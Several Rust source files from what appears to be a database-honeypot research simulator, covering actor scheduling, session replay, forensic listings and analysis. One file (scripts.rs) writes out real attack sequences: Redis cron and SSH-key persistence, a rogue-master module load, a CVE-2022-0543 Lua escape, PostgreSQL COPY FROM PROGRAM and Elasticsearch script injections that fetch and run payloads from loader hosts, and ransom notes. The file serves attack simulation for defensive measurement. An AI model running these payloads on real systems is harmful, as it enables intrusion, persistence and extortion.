            (0.40..0.75).contains(&share),
            "US share of low fleet = {share:.2}"
        );
    }

    #[test]
    fn mssql_login_budget_is_near_paper_total() {
        let geo = GeoDb::builtin();
        let pop = build_population(&PopulationConfig::paper(5), &geo);
        let total: u64 = pop
            .iter()
            .filter_map(|a| match a.behavior {
                ActorScript::MssqlBruteforcer { attempts_total } => Some(attempts_total),
                _ => None,
            })
            .sum();
        // paper: 18,076,729 MSSQL attempts
        assert!(
            (17_000_000..19_200_000).contains(&total),
            "MSSQL budget {total}"
        );
    }
}
