//! Expand actors into a time-ordered session plan.
//!
//! For each actor, each active day draws a Poisson visit count per target
//! (at least one visit on the first day so no actor is silent), places the
//! visits at random instants within the day, and instantiates the visit's
//! [`SessionScript`]. The merged plan is sorted by virtual timestamp; the
//! runner replays it while advancing the simulated clock.

use crate::actors::{Actor, TargetSelector};
use crate::scripts::SessionScript;
use decoy_net::time::{Timestamp, MILLIS_PER_DAY};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// One planned visit (which may open several TCP connections, e.g. brute
/// bursts).
#[derive(Debug, Clone, PartialEq)]
pub struct PlannedSession {
    /// Virtual start time.
    pub ts: Timestamp,
    /// Index into the actor vector.
    pub actor_idx: usize,
    /// Source address (copied for convenience).
    pub src: std::net::Ipv4Addr,
    /// Target group.
    pub target: TargetSelector,
    /// What happens.
    pub script: SessionScript,
}

/// Sample a Poisson-distributed count (Knuth's method; fine for the small
/// rates actors use).
pub fn poisson<R: Rng>(lambda: f64, rng: &mut R) -> u32 {
    if lambda <= 0.0 {
        return 0;
    }
    let l = (-lambda).exp();
    let mut k = 0u32;
    let mut p = 1.0;
    loop {
        p *= rng.gen::<f64>();
        if p <= l {
            return k;
        }
        k += 1;
        if k > 10_000 {
            return k; // pathological lambda guard
        }
    }
}

/// Build the plan for the whole population over a window starting at
/// `origin`.
pub fn build_schedule(actors: &[Actor], origin: Timestamp, seed: u64) -> Vec<PlannedSession> {
    let mut plan = Vec::new();
    for (actor_idx, actor) in actors.iter().enumerate() {
        let mut rng = StdRng::seed_from_u64(seed ^ actor.id.wrapping_mul(0x9e37_79b9));
        // Draw per-target, per-day visit counts first so budgets (e.g. a
        // brute-forcer's total login attempts) can be split across the
        // actor's WHOLE lifetime, not per target.
        let mut per_target: Vec<Vec<u32>> = Vec::with_capacity(actor.targets.len());
        for _ in &actor.targets {
            let mut per_day: Vec<u32> = (0..actor.active_days)
                .map(|_| poisson(actor.visits_per_day, &mut rng))
                .collect();
            if per_day.iter().all(|&v| v == 0) {
                // guaranteed first-day visit so no actor is silent
                per_day[0] = 1;
            }
            per_target.push(per_day);
        }
        let grand_total: u32 = per_target.iter().flatten().sum();
        let mut visit_seq = 0u32;
        for (target, per_day) in actor.targets.iter().zip(&per_target) {
            for (day_offset, &visits) in per_day.iter().enumerate() {
                let day = actor.first_day as u64 + day_offset as u64;
                for _ in 0..visits {
                    let offset_ms = rng.gen_range(0..MILLIS_PER_DAY);
                    let ts = origin.add_millis(day * MILLIS_PER_DAY + offset_ms);
                    let script = actor.script_for_visit(target, visit_seq, grand_total, &mut rng);
                    plan.push(PlannedSession {
                        ts,
                        actor_idx,
                        src: actor.src,
                        target: *target,
                        script,
                    });
                    visit_seq += 1;
                }
            }
        }
    }
    plan.sort_by_key(|s| (s.ts, s.actor_idx));
    plan
}

/// Total TCP connections the plan implies (brute bursts count each
/// credential attempt).
pub fn total_connections(plan: &[PlannedSession]) -> usize {
    plan.iter().map(|s| s.script.connections_per_visit()).sum()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::actors::ActorScript;
    use decoy_net::time::EXPERIMENT_START;
    use decoy_store::Dbms;

    fn scan_actor(id: u64, first_day: u32, active_days: u32) -> Actor {
        Actor {
            id,
            src: std::net::Ipv4Addr::new(60, 0, 0, id as u8),
            asn: 6939,
            cohort: "test",
            first_day,
            active_days,
            visits_per_day: 1.0,
            targets: vec![TargetSelector::low_multi(Dbms::Redis)],
            behavior: ActorScript::Scan,
        }
    }

    #[test]
    fn poisson_mean_is_close() {
        let mut rng = StdRng::seed_from_u64(1);
        let n = 20_000;
        let sum: u64 = (0..n).map(|_| poisson(3.0, &mut rng) as u64).sum();
        let mean = sum as f64 / n as f64;
        assert!((mean - 3.0).abs() < 0.1, "mean {mean}");
        assert_eq!(poisson(0.0, &mut rng), 0);
        assert_eq!(poisson(-1.0, &mut rng), 0);
    }

    #[test]
    fn schedule_is_sorted_and_deterministic() {
        let actors: Vec<Actor> = (1..=20)
            .map(|i| scan_actor(i, (i % 10) as u32, 3))
            .collect();
        let a = build_schedule(&actors, EXPERIMENT_START, 7);
        let b = build_schedule(&actors, EXPERIMENT_START, 7);
        assert_eq!(a, b);
        assert!(a.windows(2).all(|w| w[0].ts <= w[1].ts));
        let c = build_schedule(&actors, EXPERIMENT_START, 8);
        assert_ne!(a, c);
    }

    #[test]
    fn every_actor_appears_at_least_once() {
        let actors: Vec<Actor> = (1..=50)
            .map(|i| {
                let mut a = scan_actor(i, 0, 1);
                a.visits_per_day = 0.05; // almost always zero draws
                a
            })
            .collect();
        let plan = build_schedule(&actors, EXPERIMENT_START, 3);
        let seen: std::collections::HashSet<usize> = plan.iter().map(|s| s.actor_idx).collect();
        assert_eq!(seen.len(), 50);
    }

    #[test]
    fn sessions_fall_inside_the_actor_window() {
        let actors = vec![scan_actor(1, 5, 3)];
        let plan = build_schedule(&actors, EXPERIMENT_START, 1);
        for s in &plan {
            let day = s.ts.days_since(EXPERIMENT_START);
            assert!((5..8).contains(&day), "day {day}");
        }
    }

    #[test]
    fn brute_budget_is_preserved_across_visits() {
        let mut actor = scan_actor(9, 0, 4);
        actor.visits_per_day = 2.0;
        actor.targets = vec![TargetSelector::low_multi(Dbms::Mssql)];
        actor.behavior = ActorScript::MssqlBruteforcer {
            attempts_total: 1234,
        };
        let plan = build_schedule(&[actor], EXPERIMENT_START, 2);
        let attempts: usize = plan
            .iter()
            .map(|s| match &s.script {
                SessionScript::MssqlBrute { creds } => creds.len(),
                _ => 0,
            })
            .sum();
        assert_eq!(attempts, 1234);
        assert_eq!(total_connections(&plan), 1234);
    }

    #[test]
    fn brute_budget_spans_multiple_targets() {
        // §5's heavy hitters hit both instance groups; the attempt budget is
        // per actor, not per target (regression test for double-counting).
        let mut actor = scan_actor(4, 0, 5);
        actor.visits_per_day = 1.5;
        actor.targets = vec![
            TargetSelector::low_multi(Dbms::Mssql),
            TargetSelector::low_single(Dbms::Mssql),
        ];
        actor.behavior = ActorScript::MssqlBruteforcer {
            attempts_total: 10_000,
        };
        let plan = build_schedule(&[actor], EXPERIMENT_START, 5);
        let attempts: usize = plan
            .iter()
            .map(|s| match &s.script {
                SessionScript::MssqlBrute { creds } => creds.len(),
                _ => 0,
            })
            .sum();
        assert_eq!(attempts, 10_000);
        // both groups actually receive attempts
        for group in [
            decoy_store::ConfigVariant::MultiService,
            decoy_store::ConfigVariant::SingleService,
        ] {
            assert!(
                plan.iter()
                    .any(|s| s.target.config == Some(group)
                        && s.script.connections_per_visit() > 0),
                "{group:?} untouched"
            );
        }
    }
}
