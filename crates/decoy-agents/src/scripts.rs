//! Session scripts — what an actor does during one visit.
//!
//! Each variant corresponds to an observed behavior class or campaign
//! (Table 9, Listings 1–14). The network driver executes the script with
//! real client protocol code; the direct generator emits the equivalent
//! events. Campaign scripts render the exact command sequences of the
//! paper's listings (with the masked fields instantiated).

use serde::{Deserialize, Serialize};

/// One visit's worth of intent.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum SessionScript {
    /// TCP connect + disconnect, nothing else (scanning).
    ConnectOnly,
    /// MySQL login attempts; one connection per credential (servers close
    /// after a failed login).
    MysqlBrute {
        /// Credentials to try this visit.
        creds: Vec<(String, String)>,
    },
    /// MSSQL PRELOGIN + LOGIN7 attempts; one connection per credential.
    MssqlBrute {
        /// Credentials to try this visit.
        creds: Vec<(String, String)>,
    },
    /// PostgreSQL startup + password (single combination, §5's PG pattern).
    PgLogin {
        /// Username.
        user: String,
        /// Password.
        password: String,
        /// How many times to repeat the same pair this visit.
        repeats: u32,
    },
    /// PostgreSQL brute-forcing: one connection per credential.
    PgBrute {
        /// Credentials to try this visit.
        creds: Vec<(String, String)>,
    },
    /// Redis `AUTH` attempts.
    RedisAuth {
        /// Passwords to try.
        passwords: Vec<String>,
    },
    /// Redis scouting: `INFO`, `DBSIZE`, `KEYS *`; with `type_walk`, `TYPE`
    /// on each returned key (the fake-data behavior of §6).
    RedisScout {
        /// Walk every key with TYPE.
        type_walk: bool,
    },
    /// Elasticsearch scouting over HTTP.
    ElasticScout {
        /// Also pull `/_cat/indices` and run a `/_search` (institutional
        /// deep scouting).
        deep: bool,
    },
    /// MongoDB scouting: handshake commands; with `deep`, `listDatabases` +
    /// `listCollections` (the institutional behavior §6 flags).
    MongoScout {
        /// Enumerate databases and collections.
        deep: bool,
    },
    /// PostgreSQL scouting: log in (open config) and `SELECT version()`.
    PgScout,
    /// P2PInfect infection sequence (Listing 1).
    P2pInfect,
    /// ABCbot loader sequence (Listing 2).
    AbcBot,
    /// CVE-2022-0543 Lua sandbox escape probe (Listing 3).
    RedisCve20220543,
    /// Kinsing `COPY FROM PROGRAM` injection (Listing 4).
    Kinsing,
    /// Privilege manipulation (Listing 13).
    PgPrivilege,
    /// Lucifer script-field injection (Listings 5–6).
    Lucifer,
    /// MongoDB data theft + ransom note (Listings 7–8); `group` selects the
    /// note template (the paper saw two).
    MongoRansom {
        /// Ransom group (0 or 1).
        group: u8,
    },
    /// CouchDB scouting over HTTP: banner, `_all_dbs`, `_all_docs`
    /// (extension honeypot, §7).
    CouchScout,
    /// CouchDB ransom: enumerate, read, `DELETE` every database, leave a
    /// warning document (extension honeypot, §7).
    CouchRansom,
    /// Post-login SQL reconnaissance against the medium MySQL honeypot:
    /// login, `SELECT @@version`, `SHOW DATABASES` (extension, §7).
    MysqlScout,
    /// Harvest the fake-data Redis entries (KEYS + GET each), then try the
    /// harvested passwords as AUTH credentials — an adversary exhibiting
    /// knowledge of the bait data (§4.2's measurement objective).
    HarvestAndReuse,
    /// RDP mstshash probe thrown at the port (Listing 10).
    RdpProbe,
    /// JDWP handshake probe (Listing 11).
    JdwpProbe,
    /// VMware vSphere SOAP recon (Listing 12).
    VmwareRecon,
    /// Craft CMS CVE-2023-41892 probe (Listing 14).
    CraftCms,
    /// Honeypot-fingerprinting probe: banner grab, capability
    /// cross-check, and one deliberately unknown/malformed request — the
    /// network shape of the `decoy-fingerprint` battery (the arms-race
    /// adversary of §7).
    FingerprintProbe,
}

/// Parameters a campaign script needs rendered (loader addresses etc.).
/// Deterministic per actor so that repeated visits reuse infrastructure,
/// like real campaigns do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CampaignParams {
    /// Loader / rogue-master address.
    pub loader_ip: [u8; 4],
    /// Loader port.
    pub loader_port: u16,
    /// Hex-ish payload hash for file names.
    pub payload_hash: u64,
}

impl CampaignParams {
    /// Derive parameters from an actor identity (stable across visits).
    pub fn derive(actor_seed: u64) -> Self {
        let h = actor_seed.wrapping_mul(0x9e37_79b9_7f4a_7c15);
        CampaignParams {
            // loader lives in unallocated (unmapped) space on purpose: real
            // loader infrastructure rarely overlaps attack sources
            loader_ip: [
                185,
                (h >> 8) as u8,
                (h >> 16) as u8,
                ((h >> 24) as u8).max(1),
            ],
            loader_port: 8000 + (h % 2000) as u16,
            payload_hash: h,
        }
    }

    /// Loader address as text.
    pub fn loader(&self) -> String {
        format!(
            "{}.{}.{}.{}:{}",
            self.loader_ip[0],
            self.loader_ip[1],
            self.loader_ip[2],
            self.loader_ip[3],
            self.loader_port
        )
    }

    /// Loader IP as text.
    pub fn loader_ip_str(&self) -> String {
        format!(
            "{}.{}.{}.{}",
            self.loader_ip[0], self.loader_ip[1], self.loader_ip[2], self.loader_ip[3]
        )
    }

    /// The file-name hash as 16 hex chars.
    pub fn hash_hex(&self) -> String {
        format!("{:016x}", self.payload_hash)
    }
}

/// The Redis command sequence of Listing 1 (P2PInfect), rendered as
/// `(command name, args)` tuples.
pub fn p2pinfect_commands(p: &CampaignParams) -> Vec<Vec<String>> {
    let ip = p.loader_ip_str();
    let port = p.loader_port.to_string();
    let hash = p.hash_hex();
    let dropper = format!(
        "\n\n*/1 * * * * root exec 6<>/dev/tcp/{ip}/{port} && echo -n 'GET /linux' >&6 && cat 0<&6 >/tmp/{hash} ; fi && chmod +x /tmp/{hash} && /tmp/{hash} run\n\n"
    );
    let ssh_key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDjM7OgYGVp root@localhost.localdomain";
    vec![
        vec!["INFO".into(), "server".into()],
        vec!["FLUSHDB".into()],
        vec!["SET".into(), "x".into(), dropper.clone()],
        vec!["CONFIG".into(), "SET".into(), "rdbcompression".into(), "no".into()],
        vec!["CONFIG".into(), "SET".into(), "dir".into(), "/etc/cron.d/".into()],
        vec!["CONFIG".into(), "SET".into(), "dbfilename".into(), "redis".into()],
        vec!["SAVE".into()],
        vec!["CONFIG".into(), "SET".into(), "dir".into(), "/var/lib/redis".into()],
        vec!["CONFIG".into(), "SET".into(), "dbfilename".into(), "dump.rdb".into()],
        vec!["CONFIG".into(), "SET".into(), "rdbcompression".into(), "yes".into()],
        vec!["FLUSHDB".into()],
        vec!["SET".into(), "x".into(), format!("\n\n{ssh_key}\n\n")],
        vec!["CONFIG".into(), "SET".into(), "dir".into(), "/root/.ssh/".into()],
        vec!["CONFIG".into(), "SET".into(), "dbfilename".into(), "authorized_keys".into()],
        vec!["SAVE".into()],
        vec!["CONFIG".into(), "SET".into(), "dir".into(), "/var/lib/redis".into()],
        vec!["CONFIG".into(), "SET".into(), "dbfilename".into(), "dump.rdb".into()],
        vec!["CONFIG".into(), "SET".into(), "dir".into(), "/tmp/".into()],
        vec!["CONFIG".into(), "SET".into(), "dbfilename".into(), "exp.so".into()],
        vec!["SLAVEOF".into(), ip.clone(), "8886".into()],
        vec!["MODULE".into(), "LOAD".into(), "/tmp/exp.so".into()],
        vec!["SLAVEOF".into(), "NO".into(), "ONE".into()],
        vec![
            "system.exec".into(),
            format!(
                "exec 6<>/dev/tcp/{ip}/{port} && echo -n 'GET /linux' >&6 && cat 0<&6 >/tmp/{hash} ; fi && chmod +x /tmp/{hash} && /tmp/{hash} run"
            ),
        ],
        vec!["system.exec".into(), "rm -rf /tmp/exp.so".into()],
        vec!["MODULE".into(), "UNLOAD".into(), "system".into()],
    ]
}

/// The Redis command sequence of Listing 2 (ABCbot).
pub fn abcbot_commands(p: &CampaignParams) -> Vec<Vec<String>> {
    let url = format!("http://{}/ff.sh", p.loader());
    let cron = |minute: &str| format!("\n*/{minute} * * * * root curl -fsSL {url} | sh\n");
    vec![
        vec!["SET".into(), "backup1".into(), cron("2")],
        vec!["SET".into(), "backup2".into(), cron("3")],
        vec!["SET".into(), "backup3".into(), cron("4")],
        vec![
            "CONFIG".into(),
            "SET".into(),
            "dir".into(),
            "/var/spool/cron/".into(),
        ],
        vec![
            "CONFIG".into(),
            "SET".into(),
            "dbfilename".into(),
            "root".into(),
        ],
        vec!["SAVE".into()],
    ]
}

/// The Lua escape of Listing 3 (CVE-2022-0543): runs `id`.
pub fn redis_cve_commands() -> Vec<Vec<String>> {
    vec![vec![
        "EVAL".into(),
        r#"local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res"#
            .into(),
        "0".into(),
    ]]
}

/// The PostgreSQL query sequence of Listing 4 (Kinsing).
pub fn kinsing_queries(p: &CampaignParams) -> Vec<String> {
    let table = p.hash_hex();
    // base64 of a pg.sh-style dropper; content mirrors Listing 9
    let b64 = "cGtpbGwgLWYgenN2YzsgY3VybCAxODUuMTkxLjMyLjQvcGcuc2h8YmFzaA==";
    vec![
        format!("DROP TABLE IF EXISTS {table};"),
        format!("CREATE TABLE {table}(cmd_output text);"),
        format!("COPY {table} FROM PROGRAM 'echo {b64}| base64 -d | bash';"),
        format!("SELECT * FROM {table};"),
        format!("DROP TABLE IF EXISTS {table};"),
    ]
}

/// The privilege-manipulation queries of Listing 13.
pub fn pg_privilege_queries(p: &CampaignParams) -> Vec<String> {
    vec![
        format!(
            "ALTER USER pgg_superadmins WITH PASSWORD '{}'",
            p.hash_hex()
        ),
        "ALTER USER postgres WITH NOSUPERUSER".to_string(),
    ]
}

/// The Elasticsearch search body of Listing 5 (Lucifer part 1).
pub fn lucifer_search_body(p: &CampaignParams) -> String {
    format!(
        concat!(
            r#"{{"query":{{"filtered":{{"query":{{"match_all":{{}}}}}}}},"#,
            r#""script_fields":{{"exp":{{"script":"import java.util.*; import java.io.*; "#,
            r#"BufferedReader br = new BufferedReader(new InputStreamReader("#,
            r#"Runtime.getRuntime().exec(\"curl -o /tmp/sss6 http://{loader}/sss6\").getInputStream()));"#,
            r#"StringBuilder sb = new StringBuilder(); sb.toString();"}}}}}}"#
        ),
        loader = p.loader()
    )
}

/// The shell stages of Listing 6 (Lucifer part 2), also delivered through
/// the script field.
pub fn lucifer_shell_stages(p: &CampaignParams) -> Vec<String> {
    let loader = p.loader();
    vec![
        format!("rm * && curl -o /tmp/sss6 http://{loader}/sss6 && chmod 777 /tmp/./sss6 && exec /tmp/./sss6 && rm /tmp/*"),
        format!("rm * && wget http://{loader}/sv6 && chmod 777 sv6 && exec ./sv6 && rm -r sv6"),
    ]
}

/// Ransom note templates (Listings 7 and 8). `group` 0 or 1.
pub fn ransom_note(group: u8, db_code: &str) -> String {
    match group % 2 {
        0 => format!(
            "All your data is backed up. You must pay 0.0058 BTC to bc1q{db_code} \
             In 48 hours, your data will be publicly disclosed and deleted. \
             (more information: go to http://recovery.example.onion) \
             After paying send mail to us: recover@{db_code}.example and we will \
             provide a link for you to download your data. Your DBCODE is: {db_code}"
        ),
        _ => format!(
            "Your DB has been back up. The only way of recovery is you must send \
             0.007 BTC to bc1p{db_code}. Once paid please email restore@{db_code}.example \
             with code: {db_code} and we will recover your database. please read \
             http://howto.example.onion for more information."
        ),
    }
}

impl SessionScript {
    /// Does this script require more than one TCP connection per visit?
    /// (Failed SQL logins close the connection, so brute bursts reconnect.)
    pub fn connections_per_visit(&self) -> usize {
        match self {
            // an empty credential burst opens no connections at all
            SessionScript::MysqlBrute { creds }
            | SessionScript::MssqlBrute { creds }
            | SessionScript::PgBrute { creds } => creds.len(),
            SessionScript::PgLogin { repeats, .. } => (*repeats).max(1) as usize,
            _ => 1,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn campaign_params_are_stable_per_actor() {
        let a = CampaignParams::derive(42);
        let b = CampaignParams::derive(42);
        assert_eq!(a, b);
        assert_ne!(a, CampaignParams::derive(43));
        assert!(a.loader().contains(':'));
        assert_eq!(a.hash_hex().len(), 16);
    }

    #[test]
    fn p2pinfect_matches_listing1_structure() {
        let p = CampaignParams::derive(1);
        let cmds = p2pinfect_commands(&p);
        let flat: Vec<String> = cmds.iter().map(|c| c.join(" ")).collect();
        let joined = flat.join("\n");
        // the signature elements of Listing 1
        assert!(joined.contains("INFO server"));
        assert!(joined.contains("/root/.ssh/"));
        assert!(joined.contains("authorized_keys"));
        assert!(joined.contains("exp.so"));
        assert!(joined.contains("SLAVEOF"));
        assert!(joined.contains("MODULE LOAD /tmp/exp.so"));
        assert!(joined.contains("SLAVEOF NO ONE"));
        assert!(joined.contains("system.exec"));
        assert!(joined.contains("MODULE UNLOAD system"));
        assert!(joined.contains("ssh-rsa"));
        // restores dump.rdb after each overwrite
        assert_eq!(joined.matches("dump.rdb").count(), 2);
    }

    #[test]
    fn abcbot_matches_listing2_ioc() {
        let p = CampaignParams::derive(2);
        let cmds = abcbot_commands(&p);
        let joined: String = cmds
            .iter()
            .map(|c| c.join(" "))
            .collect::<Vec<_>>()
            .join("\n");
        assert!(joined.contains("/ff.sh"), "ABCbot IOC is the ff.sh loader");
        assert!(joined.contains("/var/spool/cron/"));
        assert_eq!(cmds.len(), 6);
    }

    #[test]
    fn redis_cve_runs_id() {
        let cmds = redis_cve_commands();
        assert_eq!(cmds.len(), 1);
        assert!(cmds[0][1].contains("package.loadlib"));
        assert!(cmds[0][1].contains(r#"io.popen("id""#));
    }

    #[test]
    fn kinsing_matches_listing4_shape() {
        let p = CampaignParams::derive(3);
        let queries = kinsing_queries(&p);
        assert_eq!(queries.len(), 5);
        assert!(queries[0].starts_with("DROP TABLE IF EXISTS"));
        assert!(queries[1].contains("(cmd_output text)"));
        assert!(queries[2].contains("FROM PROGRAM"));
        assert!(queries[2].contains("base64 -d | bash"));
        assert!(queries[3].starts_with("SELECT * FROM"));
        assert_eq!(queries[0], queries[4]);
    }

    #[test]
    fn lucifer_matches_listing5() {
        let p = CampaignParams::derive(4);
        let body = lucifer_search_body(&p);
        assert!(body.contains("script_fields"));
        assert!(body.contains("Runtime.getRuntime().exec"));
        assert!(body.contains("/tmp/sss6"));
        let stages = lucifer_shell_stages(&p);
        assert_eq!(stages.len(), 2);
        assert!(stages[1].contains("sv6"));
    }

    #[test]
    fn ransom_notes_have_two_templates() {
        let a = ransom_note(0, "abc123");
        let b = ransom_note(1, "abc123");
        assert!(a.contains("0.0058 BTC"));
        assert!(a.contains("48 hours"));
        assert!(a.contains("DBCODE"));
        assert!(b.contains("0.007 BTC"));
        assert_ne!(a, b);
        assert_eq!(ransom_note(2, "x"), ransom_note(0, "x"));
    }

    #[test]
    fn connections_per_visit() {
        assert_eq!(SessionScript::ConnectOnly.connections_per_visit(), 1);
        assert_eq!(
            SessionScript::MssqlBrute {
                creds: vec![("a".into(), "b".into()); 7]
            }
            .connections_per_visit(),
            7
        );
        assert_eq!(
            SessionScript::PgLogin {
                user: "postgres".into(),
                password: "x".into(),
                repeats: 3
            }
            .connections_per_visit(),
            3
        );
        assert_eq!(
            SessionScript::MssqlBrute { creds: vec![] }.connections_per_visit(),
            0
        );
    }
}
