//! Forensic session reconstruction — render a source's captured activity
//! the way the paper's Appendix E listings present it (Listing 1, 2, 4, ...):
//! numbered command lines with volatile fields already masked, connection
//! boundaries marked, and login attempts summarized.

use decoy_store::{Dbms, EventKind, EventStore};
use std::fmt::Write as _;
use std::net::IpAddr;

/// One reconstructed session (connection) from a source.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SessionListing {
    /// Honeypot family the session hit.
    pub dbms: Dbms,
    /// Session sequence number on that honeypot.
    pub session: u64,
    /// Masked lines in order.
    pub lines: Vec<String>,
}

/// Reconstruct all sessions of `src` (optionally scoped to one family).
pub fn sessions_of(store: &EventStore, src: IpAddr, dbms: Option<Dbms>) -> Vec<SessionListing> {
    let mut sessions: Vec<SessionListing> = Vec::new();
    for event in store.by_src(src) {
        if let Some(d) = dbms {
            if event.honeypot.dbms != d {
                continue;
            }
        }
        let key = (event.honeypot.dbms, event.session);
        let line = match &event.kind {
            EventKind::Connect => Some("NewConnect".to_string()),
            EventKind::Disconnect => Some("Closed".to_string()),
            EventKind::Command { action, .. } => Some(action.clone()),
            EventKind::LoginAttempt {
                username, success, ..
            } => Some(format!(
                "login {} as {username} ({})",
                if *success { "accepted" } else { "rejected" },
                "password masked"
            )),
            EventKind::Payload {
                recognized,
                preview,
                ..
            } => Some(match recognized {
                Some(label) => format!("[{label}] {preview}"),
                None => format!("[payload] {preview}"),
            }),
            EventKind::Malformed { detail } => Some(format!("[malformed] {detail}")),
            // Operational telemetry never belongs in an attacker listing.
            EventKind::Health { .. } => continue,
        };
        match sessions.last_mut() {
            Some(last) if (last.dbms, last.session) == key => {
                if let Some(line) = line {
                    last.lines.push(line);
                }
            }
            _ => {
                sessions.push(SessionListing {
                    dbms: key.0,
                    session: key.1,
                    lines: line.into_iter().collect(),
                });
            }
        }
    }
    sessions
}

/// Render a source's activity as a numbered, paper-style listing.
pub fn render_listing(store: &EventStore, src: IpAddr, dbms: Option<Dbms>) -> String {
    let mut out = String::new();
    for listing in sessions_of(store, src, dbms) {
        let _ = writeln!(
            out,
            "-- {} session {} --",
            listing.dbms.label(),
            listing.session
        );
        for (i, line) in listing.lines.iter().enumerate() {
            let _ = writeln!(out, "{:>3}  {line}", i + 1);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::time::EXPERIMENT_START;
    use decoy_store::{ConfigVariant, Event, HoneypotId, InteractionLevel};

    fn log(store: &EventStore, session: u64, kind: EventKind) {
        store.log(Event {
            ts: EXPERIMENT_START,
            honeypot: HoneypotId::new(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::Default,
                0,
            ),
            src: "60.1.2.3".parse().unwrap(),
            session,
            kind,
        });
    }

    #[test]
    fn reconstructs_sessions_in_order_with_masking() {
        let store = EventStore::new();
        let src: IpAddr = "60.1.2.3".parse().unwrap();
        log(&store, 1, EventKind::Connect);
        log(
            &store,
            1,
            EventKind::Command {
                action: "SLAVEOF <IP> <N>".into(),
                raw: "SLAVEOF 1.2.3.4 8886".into(),
            },
        );
        log(&store, 1, EventKind::Disconnect);
        log(&store, 2, EventKind::Connect);
        log(
            &store,
            2,
            EventKind::LoginAttempt {
                username: "default".into(),
                password: "secret".into(),
                success: false,
            },
        );
        log(&store, 2, EventKind::Disconnect);

        let sessions = sessions_of(&store, src, Some(Dbms::Redis));
        assert_eq!(sessions.len(), 2);
        assert_eq!(
            sessions[0].lines,
            vec!["NewConnect", "SLAVEOF <IP> <N>", "Closed"]
        );
        let listing = render_listing(&store, src, None);
        assert!(listing.contains("-- Redis session 1 --"));
        assert!(listing.contains("  2  SLAVEOF <IP> <N>"));
        // credentials never appear in a listing
        assert!(!listing.contains("secret"));
        assert!(listing.contains("login rejected as default"));
    }

    #[test]
    fn unknown_source_renders_empty() {
        let store = EventStore::new();
        let listing = render_listing(&store, "60.9.9.9".parse().unwrap(), None);
        assert!(listing.is_empty());
    }

    #[test]
    fn foreign_payloads_carry_their_label() {
        let store = EventStore::new();
        log(
            &store,
            3,
            EventKind::Payload {
                len: 14,
                recognized: Some("jdwp-scan".into()),
                preview: "JDWP-Handshake".into(),
            },
        );
        let listing = render_listing(&store, "60.1.2.3".parse().unwrap(), None);
        assert!(listing.contains("[jdwp-scan] JDWP-Handshake"));
    }
}
