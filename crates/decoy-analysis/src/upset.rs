//! Cross-honeypot IP intersections — the UpSet plot of Figure 4.
//!
//! For the medium/high-interaction deployment, which sources appeared on
//! which DBMS honeypots, aggregated by exact combination ("most IP
//! addresses appear in only a single honeypot").

use decoy_store::{Dbms, EventStore};
use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;

/// Exact-combination intersection counts: each source is counted once,
/// under the full set of DBMS it contacted.
#[derive(Debug, Clone, Default)]
pub struct UpSet {
    /// Combination → number of sources contacting exactly that combination.
    pub intersections: BTreeMap<Vec<Dbms>, usize>,
    /// Per-DBMS totals (marginal set sizes).
    pub set_sizes: BTreeMap<Dbms, usize>,
}

impl UpSet {
    /// Sources that contacted exactly one honeypot family.
    pub fn exclusive_total(&self) -> usize {
        self.intersections
            .iter()
            .filter(|(combo, _)| combo.len() == 1)
            .map(|(_, n)| n)
            .sum()
    }

    /// Sources that contacted two or more families.
    pub fn multi_total(&self) -> usize {
        self.intersections
            .iter()
            .filter(|(combo, _)| combo.len() > 1)
            .map(|(_, n)| n)
            .sum()
    }

    /// All sources.
    pub fn total(&self) -> usize {
        self.intersections.values().sum()
    }

    /// Intersections sorted by size, descending (UpSet bar order).
    pub fn sorted(&self) -> Vec<(Vec<Dbms>, usize)> {
        let mut rows: Vec<(Vec<Dbms>, usize)> = self
            .intersections
            .iter()
            .map(|(k, v)| (k.clone(), *v))
            .collect();
        rows.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
        rows
    }
}

/// Compute the UpSet over sources seen on honeypots of the given DBMS set.
pub fn upset(store: &EventStore, families: &[Dbms]) -> UpSet {
    let mut membership: BTreeMap<IpAddr, BTreeSet<Dbms>> = BTreeMap::new();
    for &dbms in families {
        for event in store.by_dbms(dbms) {
            membership.entry(event.src).or_default().insert(dbms);
        }
    }
    let mut result = UpSet::default();
    for sets in membership.values() {
        let combo: Vec<Dbms> = sets.iter().copied().collect();
        *result.intersections.entry(combo).or_insert(0) += 1;
        for &dbms in sets {
            *result.set_sizes.entry(dbms).or_insert(0) += 1;
        }
    }
    result
}

/// Frame counterpart of [`upset`]: one pass over the view's events instead
/// of one cloning index scan per family.
pub fn upset_view(view: crate::frame::FrameView<'_>, families: &[Dbms]) -> UpSet {
    let mut membership: BTreeMap<IpAddr, BTreeSet<Dbms>> = BTreeMap::new();
    for event in view.events() {
        let dbms = event.honeypot.dbms;
        if families.contains(&dbms) {
            membership.entry(event.src).or_default().insert(dbms);
        }
    }
    let mut result = UpSet::default();
    for sets in membership.values() {
        let combo: Vec<Dbms> = sets.iter().copied().collect();
        *result.intersections.entry(combo).or_insert(0) += 1;
        for &dbms in sets {
            *result.set_sizes.entry(dbms).or_insert(0) += 1;
        }
    }
    result
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::time::EXPERIMENT_START;
    use decoy_store::{ConfigVariant, Event, EventKind, HoneypotId, InteractionLevel};

    fn log(store: &EventStore, src: u8, dbms: Dbms) {
        store.log(Event {
            ts: EXPERIMENT_START,
            honeypot: HoneypotId::new(dbms, InteractionLevel::Medium, ConfigVariant::Default, 0),
            src: IpAddr::from([198, 18, 0, src]),
            session: 1,
            kind: EventKind::Connect,
        });
    }

    const FAMILIES: [Dbms; 4] = [Dbms::Elastic, Dbms::MongoDb, Dbms::Postgres, Dbms::Redis];

    #[test]
    fn exact_combinations() {
        let store = EventStore::new();
